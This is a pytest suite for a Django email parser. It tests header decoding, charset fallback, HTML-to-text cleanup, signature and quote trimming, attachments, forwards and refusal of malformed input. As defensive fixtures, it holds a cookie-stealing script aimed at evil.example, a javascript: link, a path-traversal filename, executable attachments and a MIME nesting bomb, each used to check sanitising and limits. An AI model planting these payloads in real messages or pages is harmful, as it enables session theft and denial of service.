"""capture/parsing.py: raw bytes in, a ParsedMessage or a MessageRefused out (issue 17, point 3
and "Bad input"). Pure functions: no row is written, the database is only there because every
test in this suite gets one."""

import contextlib
import logging
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage

import pytest
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from capture.parsing import (
    MAX_DEPTH,
    MAX_PARTS,
    MAX_RECIPIENTS,
    Address,
    MessageRefused,
    ParsedMessage,
    parse_message,
    summarise,
    thread_key,
)

FUZZ = settings(
    max_examples=150, derandomize=True, database=None, deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)  # fmt: skip


def make_message(body="Olá, segue a proposta.", **headers) -> EmailMessage:
    message = EmailMessage()
    message["From"] = headers.pop("From", "João Silva <Joao.Silva@Cliente.com.br>")
    message["To"] = headers.pop("To", "Ana <ana@nos.com.br>")
    message["Subject"] = headers.pop("Subject", "Proposta")
    message["Date"] = headers.pop("Date", "Mon, 03 Nov 2025 10:15:00 -0300")
    message["Message-ID"] = headers.pop("Message_ID", "<m1@cliente.com.br>")
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    message.set_content(body)
    return message


def raw_message(body: bytes, *, content_type=b"text/plain; charset=utf-8", headers=b"") -> bytes:
    return (
        b"From: Joao <joao@cliente.com.br>\r\nTo: ana@nos.com.br\r\nSubject: Teste\r\n"
        b"Message-ID: <raw@cliente.com.br>\r\nMIME-Version: 1.0\r\n"
        + headers
        + b"Content-Type: "
        + content_type
        + b"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + body
    )


def refusal(raw: bytes) -> str:
    with pytest.raises(MessageRefused) as caught:
        parse_message(raw)
    return str(caught.value.reason)


# --- Headers ---------------------------------------------------------------------------------


def test_headers_become_plain_fields():
    message = make_message(
        Cc='"Silva, Maria" <MARIA@cliente.com.br>, not-an-address, bob@x.com.br',
        In_Reply_To="<parent@x>",
        References="<root@x> <parent@x>",
    )
    parsed = parse_message(message.as_bytes())

    assert parsed.message_id == "m1@cliente.com.br"
    assert parsed.in_reply_to == "parent@x"
    assert parsed.references == ("root@x", "parent@x")
    assert parsed.subject == "Proposta"
    assert parsed.sender == Address(name="João Silva", email="joao.silva@cliente.com.br")
    assert parsed.to == (Address(name="Ana", email="ana@nos.com.br"),)
    assert [a.email for a in parsed.cc] == ["maria@cliente.com.br", "bob@x.com.br"]
    assert parsed.cc[0].name == "Silva, Maria"
    assert parsed.sent_at == datetime(2025, 11, 3, 13, 15, tzinfo=UTC)
    assert parsed.sent_at.utcoffset() == timedelta(hours=-3)


def test_encoded_words_and_raw_8bit_headers_are_decoded():
    raw = (
        b"From: =?utf-8?q?Silva=2C_Jo=C3=A3o?= <joao@cliente.com.br>\r\n"
        b"To: =?iso-8859-1?q?Concei=E7=E3o?= <c@nos.com.br>\r\n"
        b"Subject: Reuni\xe3o de revis\xe3o \x96 \x93urgente\x94\r\n"  # raw Windows-1252 bytes
        b"Message-ID: <h@x>\r\n\r\nCorpo\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.sender == Address(name="Silva, João", email="joao@cliente.com.br")
    assert parsed.to[0].name == "Conceição"
    assert parsed.subject == "Reunião de revisão – “urgente”"


def test_a_duplicated_from_takes_the_first_and_warns():
    raw = (
        b"From: First <first@cliente.com.br>\r\nFrom: Second <second@x.com>\r\n"
        b"Message-ID: <d@x>\r\n\r\nbody\r\n"
    )
    parsed = parse_message(raw)
    assert parsed.sender.email == "first@cliente.com.br"
    assert any("several From headers" in w for w in parsed.warnings)


@pytest.mark.parametrize(
    ("date", "expected", "warns"),
    [
        ("Mon, 03 Nov 2025 10:15:00 -0300", datetime(2025, 11, 3, 13, 15, tzinfo=UTC), False),
        ("Mon, 03 Nov 2025 10:15:00 -0000", datetime(2025, 11, 3, 10, 15, tzinfo=UTC), False),
        ("yesterday after lunch", None, True),
        (None, None, False),
    ],
)
def test_the_date_is_aware_or_none(date, expected, warns):
    raw = b"From: a@cliente.com.br\r\nMessage-ID: <x@y>\r\n"
    if date:
        raw += f"Date: {date}\r\n".encode()
    parsed = parse_message(raw + b"\r\nbody")
    assert parsed.sent_at == expected
    assert (parsed.sent_at is None) or parsed.sent_at.tzinfo is not None
    assert any("Date header" in w for w in parsed.warnings) is warns


@pytest.mark.parametrize(
    ("references", "in_reply_to", "message_id", "key"),
    [
        (("root@x", "parent@x"), "parent@x", "me@x", "root@x"),
        ((), "parent@x", "me@x", "parent@x"),
        ((), "", "me@x", "me@x"),
        ((), "", "", ""),
    ],
)
def test_thread_key_is_the_root_of_the_thread(references, in_reply_to, message_id, key):
    message = parse_message(make_message().as_bytes())
    fields = {**message.__dict__, "references": references, "in_reply_to": in_reply_to}
    fields["message_id"] = message_id
    assert thread_key(ParsedMessage(**fields)) == key


def test_a_reply_and_its_original_share_a_thread_key():
    original = parse_message(make_message(Message_ID="<root@cliente.com.br>").as_bytes())
    reply = parse_message(
        make_message(
            Message_ID="<reply@nos.com.br>",
            In_Reply_To="<root@cliente.com.br>",
            References="<root@cliente.com.br>",
        ).as_bytes()
    )
    assert thread_key(reply) == thread_key(original) == "root@cliente.com.br"


# --- Charsets --------------------------------------------------------------------------------

TEXT = "Ação: “revisão” – 10 € às 9h"


@pytest.mark.parametrize(
    ("body", "content_type", "expected", "warning"),
    [
        (TEXT.encode("utf-8"), b"text/plain; charset=utf-8", TEXT, None),
        ("Ação às 9h".encode("latin-1"), b"text/plain; charset=iso-8859-1", "Ação às 9h", None),
        (TEXT.encode("cp1252"), b"text/plain; charset=windows-1252", TEXT, None),
        # mis-declared: says utf-8, holds Windows-1252
        (TEXT.encode("cp1252"), b"text/plain; charset=utf-8", TEXT, "windows-1252"),
        # says iso-8859-1, holds Windows-1252-only characters (“ ” – €)
        (TEXT.encode("cp1252"), b"text/plain; charset=iso-8859-1", TEXT, "windows-1252"),
        # says iso-8859-1, holds UTF-8
        (TEXT.encode("utf-8"), b"text/plain; charset=iso-8859-1", TEXT, "utf-8"),
        # no charset at all
        (TEXT.encode("utf-8"), b"text/plain", TEXT, "utf-8"),
        ("Ação às 9h".encode("latin-1"), b"text/plain", "Ação às 9h", "windows-1252"),
        # a label no codec knows
        (TEXT.encode("utf-8"), b"text/plain; charset=x-unknown-8bit", TEXT, "utf-8"),
        (b"plain ascii", b"text/plain; charset=x-unknown-8bit", "plain ascii", None),
        # codecs that exist but are no text encoding, or refuse to decode anything
        (TEXT.encode("utf-8"), b"text/plain; charset=base64", TEXT, "utf-8"),
        (TEXT.encode("cp1252"), b"text/plain; charset=undefined", TEXT, "windows-1252"),
    ],
)
def test_bodies_decode_whatever_the_declared_charset(body, content_type, expected, warning):
    parsed = parse_message(raw_message(body, content_type=content_type))
    assert parsed.text == expected
    charset_warnings = [w for w in parsed.warnings if "was read as" in w]
    if warning is None:
        assert charset_warnings == []
    else:
        assert len(charset_warnings) == 1
        assert charset_warnings[0].endswith(f"was read as {warning}.")


def test_quoted_printable_and_base64_bodies_are_decoded():
    message = make_message()
    message.set_content("Ação às 9h: 10 €", charset="iso-8859-15", cte="quoted-printable")
    assert b"=E7=E3o" in message.as_bytes()
    assert parse_message(message.as_bytes()).text == "Ação às 9h: 10 €"
    message = make_message()
    message.set_content(TEXT, cte="base64")
    assert parse_message(message.as_bytes()).text == TEXT


# --- HTML ------------------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>t</title><style>p { color: red } .secret {}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body onload="steal()"><p>Prezada Ana,</p><p>Segue a <b>proposta</b> &amp; o cronograma:</p>
<ul><li>Fase 1</li><li>Fase 2</li></ul><noscript>x</noscript>
<img src="https://tracker.example/pixel.gif" alt="pixel">
<a href="javascript:alert(1)">clique</a><script type="module">import "x"</script></body></html>"""


def test_an_html_only_body_becomes_clean_text_without_scripts_or_styles():
    message = make_message()
    message.set_content(HOSTILE_HTML, subtype="html")
    parsed = parse_message(message.as_bytes())
    assert "Prezada Ana," in parsed.text
    assert "Segue a proposta & o cronograma:" in parsed.text
    assert "* Fase 1" in parsed.text
    for leaked in ("document", "evil", "color", "secret", "steal", "<", "import", "javascript"):
        assert leaked not in parsed.text
    assert parsed.summary_text.startswith("Prezada Ana,")


def test_plain_text_is_preferred_in_an_alternative_and_html_used_when_plain_is_empty():
    message = make_message("Versão texto")
    message.add_alternative("<p>Versão HTML</p>", subtype="html")
    assert parse_message(message.as_bytes()).text == "Versão texto"

    message = make_message(" ")
    message.add_alternative("<p>Versão HTML</p>", subtype="html")
    assert parse_message(message.as_bytes()).text == "Versão HTML"


@pytest.mark.parametrize(
    ("markup", "warning"),
    [
        # libxml2 stops at 255 levels: the words must not vanish
        ("<div>" * 1000 + "fundo<script>x()</script>" + "</div>" * 1000, "converted cleanly"),
        # a huge table is kept without layout rather than holding the worker for seconds
        (
            "<table>" + "<tr><td>x</td><td>y</td></tr>" * 30_000 + "<script>x()</script>fundo",
            "too large",
        ),
    ],
)
def test_html_that_cannot_be_laid_out_keeps_its_words_without_scripts(markup, warning):
    message = make_message()
    message.set_content(markup, subtype="html")
    parsed = parse_message(message.as_bytes())
    assert parsed.text.endswith("fundo")
    assert "x()" not in parsed.text
    assert any(warning in w for w in parsed.warnings)


def test_html_declared_wrongly_is_decoded_before_conversion():
    body = "<p>Reunião “amanhã”</p>".encode("cp1252")
    parsed = parse_message(raw_message(body, content_type=b"text/html; charset=utf-8"))
    assert parsed.text == "Reunião “amanhã”"


# --- Quoted history and signatures -----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "summary"),
    [
        ("Fechado, pode enviar.\n\n> Podemos fechar?\n> Abs", "Fechado, pode enviar."),
        (
            "Ok!\n\nOn Mon, Nov 3, 2025 at 10:15 AM Ana <ana@nos.com.br> wrote:\n> question",
            "Ok!",
        ),
        (
            "Combinado.\n\nEm seg., 3 de nov. de 2025 às 10:15, Ana Souza <ana@nos.com.br>\n"
            "escreveu:\n\n> Podemos marcar?",
            "Combinado.",
        ),
        (
            "See below.\n\n-----Original Message-----\nFrom: Ana\nSent: Monday\nSubject: x\n\nold",
            "See below.",
        ),
        (
            "Segue.\n\n________________________________\nDe: Ana Souza <ana@nos.com.br>\n"
            "Enviado: segunda-feira, 3 de novembro de 2025 10:15\nPara: João\nAssunto: x\n\nantigo",
            "Segue.",
        ),
        ("Segue.\n\nFrom: Ana <ana@x.com>\nSent: Monday\nTo: João\n\nold", "Segue."),
        ("Aprovado.\n\n-- \nJoão Silva\nGerente de Compras", "Aprovado."),
        ("Aprovado.\n\nEnviado do meu iPhone", "Aprovado."),
        ("Approved.\n\nSent from my Galaxy", "Approved."),
        ("Aprovado.\n\nAtenciosamente,\nJoão Silva\nCliente S.A.\n(11) 5555-0000", "Aprovado."),
        ("Aprovado.\n\nAbraços,\nJoão", "Aprovado."),
        ("Aprovado.\n\nAtt.\nJoão", "Aprovado."),
        # interleaved answers keep the answers, drop the quotes
        ("> Prazo?\nSexta.\n> Preço?\nO mesmo.", "Sexta.\nO mesmo."),
        # nothing to trim
        ("Obrigado!\n\nSegue o arquivo.", "Obrigado!\n\nSegue o arquivo."),
        # a sign-off word in the middle of a long message is not a sign-off
        (
            "Oi,\n\nObrigado,\n" + "\n".join(f"linha {n} do assunto" for n in range(8)),
            "Oi,\n\nObrigado,\n" + "\n".join(f"linha {n} do assunto" for n in range(8)),
        ),
        # a line of underscores without a header block below is content
        ("Itens:\n" + "_" * 30 + "\nTotal: 10", "Itens:\n" + "_" * 30 + "\nTotal: 10"),
        ("", ""),
    ],
)
def test_summary_trims_quoted_history_and_signatures(text, summary):
    assert summarise(text) == summary


def test_the_full_text_is_kept_beside_the_summary():
    body = "Aprovado.\n\nAtenciosamente,\nJoão\n\n> Podemos fechar?"
    parsed = parse_message(make_message(body).as_bytes())
    assert parsed.text == body
    assert parsed.summary_text == "Aprovado."


# --- Attachments and calendars ---------------------------------------------------------------


def test_attachments_are_recorded_with_decoded_names_and_kept_under_the_cap():
    message = make_message()
    message.add_attachment(
        b"%PDF-1.4 proposta", maintype="application", subtype="pdf", filename="Proposta técnica.pdf"
    )  # RFC 2231 encoded by EmailMessage
    message.add_attachment(b"x" * 2000, maintype="image", subtype="png", filename="big.png")
    parsed = parse_message(message.as_bytes(), max_attachment_bytes=1000)

    pdf, png = parsed.attachments
    assert (pdf.filename, pdf.content_type, pdf.size) == (
        "Proposta técnica.pdf",
        "application/pdf",
        17,
    )
    assert pdf.content == b"%PDF-1.4 proposta"
    assert pdf.note == ""
    assert (png.size, png.content) == (2000, None)
    assert "limit" in png.note
    assert any("big.png" in w for w in parsed.warnings)


def test_an_rfc2047_encoded_filename_and_a_path_in_it_are_cleaned():
    raw = (
        b"From: a@cliente.com.br\r\nMessage-ID: <f@x>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        b"Content-Type: text/plain\r\n\r\nsee attached\r\n--b\r\n"
        b"Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
        b' filename="=?utf-8?q?..=2F..=2FCota=C3=A7=C3=A3o.pdf?="\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n"
    )
    (attachment,) = parse_message(raw).attachments
    assert attachment.filename == "Cotação.pdf"
    assert attachment.content == b"%PDF-"


@pytest.mark.parametrize(
    ("filename", "maintype", "subtype", "data", "note"),
    [
        ("contratos.zip", "application", "zip", b"PK\x03\x04data", "Archives are not stored."),
        (
            "fotos.rar",
            "application",
            "octet-stream",
            b"Rar!\x1a\x07\x00",
            "Archives are not stored.",
        ),
        # a zip renamed to .pdf is still a zip
        ("proposta.pdf", "application", "pdf", b"PK\x03\x04data", "Archives are not stored."),
        ("setup.exe", "application", "octet-stream", b"MZ\x90\x00", "Programs are not stored."),
        ("fatura.pdf.js", "application", "octet-stream", b"alert(1)", "Programs are not stored."),
        # Office documents are zip containers and are kept
        (
            "planilha.xlsx",
            "application",
            "vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            b"PK\x03\x04data",
            "",
        ),
    ],
)
def test_archives_and_programs_are_recorded_but_not_kept(filename, maintype, subtype, data, note):
    message = make_message()
    message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    (attachment,) = parse_message(message.as_bytes()).attachments
    assert attachment.filename == filename
    assert attachment.size == len(data)
    assert attachment.note == note
    assert attachment.content == (None if note else data)


ICS = (
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@x\r\n"
    "SUMMARY:Revisão trimestral\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


def test_inline_and_attached_calendars_go_to_calendars_not_attachments():
    message = make_message("Convite")
    message.add_alternative(ICS, subtype="calendar", params={"method": "REQUEST"})
    parsed = parse_message(message.as_bytes())
    assert parsed.calendars == (ICS.replace("\r\n", "\n"),) or parsed.calendars == (ICS,)
    assert parsed.attachments == ()
    assert parsed.text == "Convite"

    message = make_message("Convite")
    message.add_attachment(
        ICS.encode(), maintype="application", subtype="octet-stream", filename="invite.ics"
    )
    parsed = parse_message(message.as_bytes())
    assert len(parsed.calendars) == 1
    assert "SUMMARY:Revisão trimestral" in parsed.calendars[0]
    assert parsed.attachments == ()


# --- Forwards --------------------------------------------------------------------------------


def test_an_attached_message_is_parsed_as_the_forwarded_original():
    original = make_message(
        "Podemos renovar?",
        From="Cliente <cliente@cliente.com.br>",
        Subject="Renovação",
        Message_ID="<orig@cliente.com.br>",
    )
    original.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="c.pdf")
    wrapper = make_message("Para registrar.", Subject="Fwd: Renovação", From="kam@nos.com.br")
    wrapper.add_attachment(original)
    parsed = parse_message(wrapper.as_bytes())

    assert parsed.text == "Para registrar."
    assert parsed.attachments == ()
    forwarded = parsed.forwarded
    assert forwarded.message_id == "orig@cliente.com.br"
    assert forwarded.sender.email == "cliente@cliente.com.br"
    assert forwarded.subject == "Renovação"
    assert forwarded.text == "Podemos renovar?"
    assert [a.filename for a in forwarded.attachments] == ["c.pdf"]


GMAIL_EN = """FYI

---------- Forwarded message ---------
From: Cliente Souza <Cliente@Cliente.com.br>
Date: Mon, Nov 3, 2025 at 10:15 AM
Subject: Renovação do contrato
To: Ana <ana@nos.com.br>
Cc: Bob <bob@cliente.com.br>

Podemos renovar por mais um ano?

Atenciosamente,
Cliente"""

GMAIL_PT = """---------- Mensagem encaminhada ---------
De: Cliente Souza <cliente@cliente.com.br>
Date: seg., 3 de nov. de 2025 às 10:15
Subject: Renovação do contrato
To: <ana@nos.com.br>

Podemos renovar por mais um ano?"""

APPLE = """Veja abaixo.

Begin forwarded message:

> From: Cliente Souza <cliente@cliente.com.br>
> Subject: Renovação do contrato
> Date: 3 November 2025 at 10:15:00 BRT
> To: Ana <ana@nos.com.br>
>
> Podemos renovar por mais um ano?"""

OUTLOOK_PT = """Registrar, por favor.

________________________________
De: Cliente Souza [mailto:cliente@cliente.com.br]
Enviado: segunda-feira, 3 de novembro de 2025 10:15
Para: Ana <ana@nos.com.br>; Bob <bob@nos.com.br>
Assunto: Renovação do contrato

Podemos renovar por mais um ano?"""


@pytest.mark.parametrize(
    ("body", "subject", "sent_at"),
    [
        (GMAIL_EN, "Fwd: Renovação do contrato", datetime(2025, 11, 3, 13, 15, tzinfo=UTC)),
        (GMAIL_PT, "Fwd: Renovação do contrato", datetime(2025, 11, 3, 13, 15, tzinfo=UTC)),
        (APPLE, "Fwd: Renovação do contrato", datetime(2025, 11, 3, 13, 15, tzinfo=UTC)),
        (OUTLOOK_PT, "ENC: Renovação do contrato", datetime(2025, 11, 3, 13, 15, tzinfo=UTC)),
    ],
)
def test_an_inline_forward_yields_the_original(body, subject, sent_at):
    # The forwarder writes in UTC-3 (the outer Date): the printed time is read in that zone.
    parsed = parse_message(make_message(body, Subject=subject).as_bytes())
    forwarded = parsed.forwarded
    assert forwarded is not None
    assert forwarded.message_id == ""
    assert forwarded.sender == Address(name="Cliente Souza", email="cliente@cliente.com.br")
    assert "ana@nos.com.br" in [a.email for a in forwarded.to]
    assert forwarded.subject == "Renovação do contrato"
    assert forwarded.text.startswith("Podemos renovar por mais um ano?")
    assert forwarded.summary_text == "Podemos renovar por mais um ano?"
    assert forwarded.sent_at == sent_at
    assert forwarded.sent_at.utcoffset() == timedelta(hours=-3)
    # The forwarder's note is the summary; the original is not in it.
    assert "Podemos renovar" not in parsed.summary_text


GMAIL_HTML_FORWARD = """<div dir="ltr">Para registrar<br><br><div class="gmail_quote">
<div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>
De: <strong class="gmail_sendername" dir="auto">Cliente Souza</strong>
<span dir="auto">&lt;<a href="mailto:cliente@cliente.com.br">cliente@cliente.com.br</a>&gt;
</span><br>
Date: seg., 3 de nov. de 2025 às 10:15<br>Subject: Renovação do contrato<br>
To: Ana &lt;<a href="mailto:ana@nos.com.br">ana@nos.com.br</a>&gt;<br></div><br><br>
<div dir="ltr">Podemos renovar por mais um ano?<div><br></div><div>Abs,</div><div>Cliente</div>
</div></div></div>"""


def test_an_html_only_gmail_forward_yields_the_original_without_indentation():
    message = make_message(Subject="Fwd: Renovação do contrato")
    message.set_content(GMAIL_HTML_FORWARD, subtype="html")
    parsed = parse_message(message.as_bytes())
    assert parsed.summary_text == "Para registrar"
    assert parsed.forwarded.sender == Address(name="Cliente Souza", email="cliente@cliente.com.br")
    assert parsed.forwarded.text == "Podemos renovar por mais um ano?\n\nAbs,\nCliente"
    assert parsed.forwarded.summary_text == "Podemos renovar por mais um ano?"


def test_an_outlook_reply_is_history_not_a_forward():
    parsed = parse_message(make_message(OUTLOOK_PT, Subject="RE: Renovação").as_bytes())
    assert parsed.forwarded is None
    assert parsed.summary_text == "Registrar, por favor."


def test_gmail_cc_of_the_original_is_read():
    forwarded = parse_message(make_message(GMAIL_EN).as_bytes()).forwarded
    assert forwarded.cc == (Address(name="Bob", email="bob@cliente.com.br"),)
    assert forwarded.summary_text == "Podemos renovar por mais um ano?"
    assert forwarded.sent_at.tzinfo == timezone(timedelta(hours=-3))


# --- Bad input (issue 17) --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b"   \r\n  ", "empty"),
        (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "not an email"),
        (b"Dear Ana,\n\nThis is just a text file saved as .eml.\n", "not an email"),
        (b'{"from": "a@b.com", "subject": "json"}', "not an email"),
        (b"Subject: hello\r\nX-Mailer: x\r\n\r\nno sender, no id", "not an email"),
        (b"From: not an address\r\nSubject: x\r\n\r\nbody", "not an email"),
        (bytes(range(256)) * 20, "not an email"),
    ],
)
def test_what_is_not_an_email_is_refused_with_a_reason(raw, reason):
    assert reason in refusal(raw).lower() or reason in refusal(raw)


def test_a_message_with_only_a_message_id_is_taken():
    parsed = parse_message(b"Message-ID: <only@x>\r\n\r\nbody")
    assert (parsed.sender, parsed.to, parsed.subject, parsed.text) == (None, (), "", "body")


@pytest.mark.parametrize("recipients", [MAX_RECIPIENTS, MAX_RECIPIENTS + 1, 500])
def test_too_many_recipients_are_refused(recipients):
    to = ", ".join(f"p{n}@cliente.com.br" for n in range(recipients // 2))
    cc = ", ".join(f"q{n}@cliente.com.br" for n in range(recipients - recipients // 2))
    raw = make_message(To=to, Cc=cc).as_bytes()
    if recipients <= MAX_RECIPIENTS:
        parsed = parse_message(raw)
        assert len(parsed.to) + len(parsed.cc) == recipients
    else:
        assert "recipients" in refusal(raw)


def test_500_recipients_with_display_names_containing_at_signs_are_refused():
    to = ", ".join(f'"p{n}@home" <p{n}@cliente.com.br>' for n in range(500))
    assert "recipients" in refusal(make_message(To=to).as_bytes())


def nested_bomb(levels: int) -> bytes:
    head = b"From: a@cliente.com.br\r\nMessage-ID: <bomb@x>\r\nMIME-Version: 1.0\r\n"
    body = b"Content-Type: text/plain\r\n\r\ncore\r\n"
    for level in range(levels, 0, -1):
        boundary = f"b{level}".encode()
        body = (
            b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n--' + boundary
            + b"\r\n" + body + b"\r\n--" + boundary + b"--\r\n"
        )  # fmt: skip
    return head + body


@pytest.mark.parametrize("levels", [MAX_DEPTH + 1, 150, 5000])
def test_a_nested_multipart_bomb_is_refused(levels):
    assert refusal(nested_bomb(levels))


def test_nesting_within_the_limit_is_read():
    assert parse_message(nested_bomb(MAX_DEPTH - 1)).text == "core"


def test_a_message_with_too_many_parts_is_refused():
    message = make_message()
    for n in range(MAX_PARTS + 1):
        message.add_attachment(b"x", maintype="application", subtype="pdf", filename=f"{n}.pdf")
    assert "parts" in refusal(message.as_bytes())


def test_nested_attached_messages_count_towards_depth():
    message = make_message("core")
    for _level in range(MAX_DEPTH + 1):
        wrapper = make_message("wrapper")
        wrapper.add_attachment(message)
        message = wrapper
    assert "levels" in refusal(message.as_bytes())


@pytest.mark.parametrize(
    "raw",
    [
        # the closing boundary never comes
        b"From: a@cliente.com.br\r\nMessage-ID: <t@x>\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        b"Content-Type: text/plain\r\n\r\nparte truncada",
        # multipart without a boundary
        b"From: a@cliente.com.br\r\nMessage-ID: <t@x>\r\nContent-Type: multipart/mixed\r\n\r\n"
        b"parte truncada",
        # broken base64 and a header line without a colon
        b"From: a@cliente.com.br\r\nMessage-ID: <t@x>\r\nthis is not a header\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nparte truncada!!!",
    ],
)
def test_malformed_mime_is_read_as_far_as_it_goes(raw):
    parsed = parse_message(raw)
    assert parsed.sender.email == "a@cliente.com.br"
    assert parsed.text  # something was read


def test_a_header_that_crashes_the_modern_parser_is_read_with_compat32():
    # CPython 3.12's policy.default raises IndexError on a parameter name ending in "*".
    raw = (
        b"From: a@cliente.com.br\r\nMessage-ID: <t@x>\r\n"
        b"Content-Type: text/plain; charset*\r\n\r\nA\xe7\xe3o"
    )
    with no_parser_failure():
        parsed = parse_message(raw)
    assert parsed.text == "Ação"
    assert any("malformed" in w for w in parsed.warnings)


def test_a_truncated_multipart_keeps_its_text_and_warns():
    raw = (
        b"From: a@cliente.com.br\r\nMessage-ID: <t@x>\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        b"Content-Type: text/plain\r\n\r\nparte truncada"
    )
    parsed = parse_message(raw)
    assert parsed.text == "parte truncada"
    assert any("malformed" in w for w in parsed.warnings)


def test_refusal_reasons_and_warnings_are_translated():
    with translation.override("pt-br"):
        reason = refusal(b"Subject: x\r\n\r\nbody")
        parsed = parse_message(raw_message(TEXT.encode("cp1252")))
    assert reason != "This file is not an email: it has neither a sender (From) nor a Message-ID."
    assert "e-mail" in reason.lower()
    assert "lido como" in parsed.warnings[0]


class _Records(logging.Handler):
    def __init__(self):
        super().__init__()
        self.records = []

    def emit(self, record):
        self.records.append(record)


@contextlib.contextmanager
def no_parser_failure():
    """The catch-all in parse_message turns a crash into a refusal and logs it: a fuzz example
    that reaches it is a bug, not a refusal."""
    handler = _Records()
    parser_logger = logging.getLogger("capture.parsing")
    parser_logger.addHandler(handler)
    try:
        yield
    finally:
        parser_logger.removeHandler(handler)
    assert [r.exc_info[1] for r in handler.records if r.exc_info] == []


def test_a_crash_inside_the_parser_is_logged_and_refused(monkeypatch):
    monkeypatch.setattr("capture.parsing._precheck", lambda raw: 1 / 0)
    with pytest.raises(AssertionError, match="ZeroDivisionError"), no_parser_failure():
        assert "could not be read" in refusal(make_message().as_bytes())


@FUZZ
@given(st.binary(max_size=3000))
def test_junk_bytes_give_a_message_or_a_refusal(raw):
    with no_parser_failure():
        try:
            parse_message(raw)
        except MessageRefused as refused:
            assert refused.reason


def _sample_messages() -> list[bytes]:
    html_message = make_message("texto")
    html_message.add_alternative(HOSTILE_HTML, subtype="html")
    html_message.add_attachment(
        b"PK\x03\x04", maintype="application", subtype="zip", filename="a.zip"
    )
    forward = make_message(GMAIL_EN)
    forward.add_attachment(make_message("interno"))
    return [
        html_message.as_bytes(),
        forward.as_bytes(),
        nested_bomb(3),
        raw_message(TEXT.encode("cp1252")),
    ]


@FUZZ
@given(
    st.sampled_from(_sample_messages()),
    st.lists(
        st.tuples(st.integers(0, 10_000), st.integers(0, 300), st.binary(max_size=40)), max_size=6
    ),
)
def test_mangled_messages_give_a_message_or_a_refusal(raw, edits):
    """Cut, drop and splice bytes anywhere: truncated MIME, lost headers, junk in boundaries."""
    data = bytearray(raw)
    for position, length, insert in edits:
        position %= max(len(data), 1)
        data[position : position + length] = insert
    with no_parser_failure():
        try:
            parsed = parse_message(bytes(data))
        except MessageRefused as refused:
            assert refused.reason
        else:
            assert isinstance(parsed.text, str)
            assert all(a.email and a.email == a.email.lower() for a in parsed.to + parsed.cc)


def test_a_one_megabyte_message_parses():
    body = ("Linha de texto com acentuação: ação, revisão, “aspas” – 10 €.\n" * 16_000)[:600_000]
    message = make_message(body)
    message.add_alternative("<p>" + body.replace("\n", "</p><p>") + "</p>", subtype="html")
    message.add_attachment(b"\x89PNG" + b"\x00" * 300_000, maintype="image", subtype="png")
    raw = message.as_bytes()
    assert len(raw) > 1_000_000
    parsed = parse_message(raw)
    assert parsed.text == body.strip()
    assert parsed.attachments[0].size == 300_004


OUTLOOK_HTML_REPLY = """<html><body><div class="WordSection1">
<p class="MsoNormal">Bom dia Ana,<o:p></o:p></p><p class="MsoNormal">Confirmado para quinta.</p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Atenciosamente,<o:p></o:p></p>
<p class="MsoNormal">João Silva<o:p></o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>De:</b> Ana Souza &lt;ana@nos.com.br&gt; <br>
<b>Enviada em:</b> segunda-feira, 3 de novembro de 2025 10:15<br>
<b>Para:</b> João Silva &lt;joao@cliente.com.br&gt;<br><b>Assunto:</b> Reunião</p></div>
<p>Podemos marcar quinta?</p></div></body></html>"""

GMAIL_HTML_REPLY = """<div dir="ltr">Fechado!<div><br></div><div>Enviado do meu iPhone</div></div>
<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">Em seg., 3 de nov. de 2025 às
10:15, Ana Souza &lt;<a href="mailto:ana@nos.com.br">ana@nos.com.br</a>&gt; escreveu:<br></div>
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex"><div dir="ltr">Podemos fechar?
</div></blockquote></div>"""


@pytest.mark.parametrize(
    ("markup", "summary", "kept"),
    [
        (OUTLOOK_HTML_REPLY, "Bom dia Ana,\n\nConfirmado para quinta.", "Podemos marcar quinta?"),
        (GMAIL_HTML_REPLY, "Fechado!", "Podemos fechar?"),
    ],
)
def test_html_replies_are_trimmed_for_the_summary_and_kept_whole(markup, summary, kept):
    message = make_message(Subject="RE: Reunião")
    message.set_content(markup, subtype="html")
    parsed = parse_message(message.as_bytes())
    assert parsed.summary_text == summary
    assert kept in parsed.text
    assert parsed.forwarded is None
